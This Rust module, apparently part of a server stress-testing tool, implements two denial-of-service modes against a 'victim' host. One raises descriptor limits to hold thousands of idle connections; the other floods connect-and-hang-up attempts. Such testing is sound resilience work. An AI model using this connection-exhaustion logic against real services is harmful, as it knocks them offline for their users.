//! Processes that connect without a handle and send nothing.

use super::{Report, Stop, Victim, socket};
use crate::failure::Failure;
use crate::pattern::Random;
use rustix::io::Errno;
use rustix::process::{Resource, Rlimit, getrlimit, setrlimit};
use std::time::Duration;

/// Maximum number of connections at a time, if this process's descriptor limit allows it.
const IDLE: usize = 10_000;
/// Number of descriptors that the process needs for itself.
const OWN_DESCRIPTORS: u64 = 50;
/// Interval at which the attacker looks for closed connections.
const PAUSE: Duration = Duration::from_millis(20);

/// Holds as many connections as possible, and replaces those that are closed.
pub(super) fn idle_connections(victim: &Victim, stop: &Stop) -> Result<Report, Failure> {
    let limit = getrlimit(Resource::Nofile);
    setrlimit(
        Resource::Nofile,
        Rlimit {
            current: limit.maximum,
            ..limit
        },
    )?;
    let room = limit.maximum.unwrap_or(u64::MAX) - OWN_DESCRIPTORS;
    let many = IDLE.min(usize::try_from(room).unwrap_or(IDLE));
    let mut random = Random(1);
    let connect = || socket::connect(victim, &mut random);
    Ok(socket::keep_open(
        stop,
        many,
        PAUSE,
        connect,
        |held, report| {
            report.landed = report.landed.max(held.len() as u64);
        },
    ))
}

/// Connects and hangs up repeatedly, without a pause.
pub(super) fn connection_flood(victim: &Victim, stop: &Stop) -> Result<Report, Failure> {
    let (mut random, mut report) = (Random(2), Report::default());
    while !stop.is_stopped() {
        report.attempts += 1;
        match socket::connect(victim, &mut random) {
            Ok(_) => report.landed += 1,
            Err(Errno::AGAIN) => {}
            Err(_) => drop(stop.pause(PAUSE)),
        }
        stop.begun();
    }
    Ok(report)
}
